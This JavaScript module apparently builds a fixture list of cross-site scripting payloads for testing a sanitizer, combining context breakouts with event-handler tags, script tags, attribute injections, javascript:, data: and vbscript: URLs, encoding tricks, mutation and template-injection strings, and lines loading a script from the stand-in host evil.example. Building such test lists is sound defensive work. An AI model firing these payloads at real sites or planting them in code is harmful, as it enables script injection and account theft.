// Texts that try to run a script wherever they land; each calls `pwned` if it does.

const run = 'pwned(1)';
const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'];
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</a>',
  '</title>',
  '</textarea>',
  '</script>',
  '</template>',
  '--><!-- ',
  ']]>',
];

/** Elements with handlers, each after one way out of where it may stand. */
const handlers = tags.flatMap((tag, t) =>
  events.map((event, e) => `${breakouts[(t * 3 + e) % breakouts.length]}<${tag} ${event}=${run}>`),
);
const scripts = breakouts.map((out) => `${out}<script>${run}</script>`);
const attributes = ['"', "'", '`', '" ', "' "].flatMap((quote) => [
  `${quote} onerror=${run} x=${quote}`,
  `${quote} autofocus onfocus=${run} ${quote}`,
  `${quote}onclick=${run}//`,
]);
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `data:text/html,<script>parent.${run}</script>`,
  `vbscript:${run}`,
  `//evil.example/x.js`,
  `https://evil.example/x.js`,
];
const templates = [
  `{{ '<script>${run}</script>' }}`,
  `{% raw %}<script>${run}</script>{% endraw %}`,
  `\${${run}}`,
  `[title]<img src=x onerror=${run}>`,
  `$&<svg onload=${run}>`,
  `$\`<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><style><img src=x onerror=${run}></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<link rel=stylesheet href=javascript:${run}>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<form action=javascript:${run}><button>x</button></form>`,
  `<a href=javascript:${run} autofocus>x</a>`,
  `\u2028<script>${run}</script>`,
  `\u202e<script>${run}</script>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];

export const hostileTexts: readonly string[] = [...handlers, ...scripts, ...attributes, ...addresses, ...templates];
